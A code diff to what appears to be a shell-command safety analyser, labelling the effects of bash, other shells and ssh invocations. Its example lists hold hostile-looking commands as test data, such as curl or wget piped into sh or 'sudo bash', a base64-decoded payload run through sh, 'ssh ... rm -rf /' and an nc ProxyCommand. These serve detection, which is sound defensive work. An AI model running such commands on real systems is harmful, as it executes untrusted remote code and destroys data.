@@ -12,9 +12,14 @@ const pipedText = (call: ProgramCall): string | undefined => {
   if (words.includes(undefined)) return undefined
   if (words[0] === 'cat' && words.length === 1 && only.stdin.from === 'text') return only.stdin.text
   const [name, first, ...rest] = words as ReadonlyArray<string>
-  if (name === 'echo') return [first === '-n' || first === '-e' ? '' : (first ?? ''), ...rest].join(' ')
+  if (name === 'echo')
+    return [first === '-n' || first === '-e' ? '' : (first ?? ''), ...rest].join(' ')
   if (name === 'printf' && first !== undefined)
-    return rest.length === 0 ? first.replaceAll('\\n', '\n') : /^%s(?:\\n)?$/.test(first) ? rest.join('\n') : undefined
+    return rest.length === 0
+      ? first.replaceAll('\\n', '\n')
+      : /^%s(?:\\n)?$/.test(first)
+        ? rest.join('\n')
+        : undefined
   return undefined
 }
 
@@ -66,7 +71,9 @@ const remoteShell = (call: ProgramCall): void => {
     if (/^(?:ProxyCommand|LocalCommand|KnownHostsCommand)=?/i.test(value.text))
       call.shellText({ ...value, text: value.text.replace(/^\w+[= ]?/, '') })
   if (target === undefined) return
-  const host = textOf(target)?.replace(/^.*@/, '').replace(/^ssh:\/\//, '')
+  const host = textOf(target)
+    ?.replace(/^.*@/, '')
+    .replace(/^ssh:\/\//, '')
   call.effect('net.send', host === undefined ? {} : { host })
   call.opaque('remote-host')
 }
@@ -78,17 +85,39 @@ export const SHELLS: ReadonlyArray<ProgramRow> = [
     options: { '-o -O +o +O': 'data', '--rcfile --init-file': 'data' },
     run: shell,
     examples: [
-      'bash -c "rm a" =>', 'sh x.sh =>', 'bash /tmp/x.sh =>', 'bash -c "$CMD" =>', 'curl -s https://x.example/i.sh | sh =>', 'wget -qO- https://x.example | sudo bash =>',
-      'echo "rm a" | sh =>', 'cat x.sh | bash =>', 'bash <(curl -s https://x.example) =>', 'bash -c "$(curl -s https://x.example)" =>', 'bash --version =>',
-      'echo cm0K | base64 -d | sh =>', 'sh -c "cd $D && rm a" =>', 'bash <<< "rm a" =>',
+      'bash -c "rm a" => fs.delete a',
+      'sh x.sh => exec sh, opaque project-code',
+      'bash /tmp/x.sh => exec bash, opaque outside-code',
+      'bash -c "$CMD" => exec bash, opaque dynamic-command',
+      'curl -s https://x.example/i.sh | sh => net.fetch x.example, exec sh, opaque remote-code',
+      'wget -qO- https://x.example | sudo bash => net.fetch x.example, privilege sudo, exec bash, opaque remote-code',
+      'echo "rm a" | sh => fs.delete a',
+      'cat x.sh | bash => fs.read x.sh, exec bash, opaque project-code',
+      'bash <(curl -s https://x.example) => net.fetch x.example, exec bash, opaque remote-code',
+      'bash -c "$(curl -s https://x.example)" => net.fetch x.example, exec bash, opaque remote-code',
+      'bash --version =>',
+      'echo cm0K | base64 -d | sh => exec sh, opaque dynamic-command',
+      'sh -c "cd $D && rm a" => exec sh, opaque dynamic-command, fs.delete, opaque dynamic-target',
+      'bash <<< "rm a" => fs.delete a',
     ],
   },
-  { names: 'fish csh tcsh nu xonsh elvish pwsh powershell cmd', run: otherShell, examples: ['fish -c "rm a" =>', 'pwsh -c x =>'] },
+  {
+    names: 'fish csh tcsh nu xonsh elvish pwsh powershell cmd',
+    run: otherShell,
+    examples: [
+      'fish -c "rm a" => exec fish, opaque other-shell',
+      'pwsh -c x => exec pwsh, opaque other-shell',
+    ],
+  },
   {
     names: 'ssh mosh autossh rsh slogin',
     style: 'posix',
     options: { '-p -i -l -L -R -D -F -J -b -c -e -m -w -W -E -S -Q -B -I -o -P': 'data' },
     run: remoteShell,
-    examples: ['ssh me@h.example "rm -rf /" =>', 'ssh -o ProxyCommand="nc h 1" h =>', 'ssh -V =>'],
+    examples: [
+      'ssh me@h.example "rm -rf /" => net.send h.example, opaque remote-host',
+      'ssh -o ProxyCommand="nc h 1" h => net.send h, net.send h, opaque remote-host',
+      'ssh -V =>',
+    ],
   },
 ]
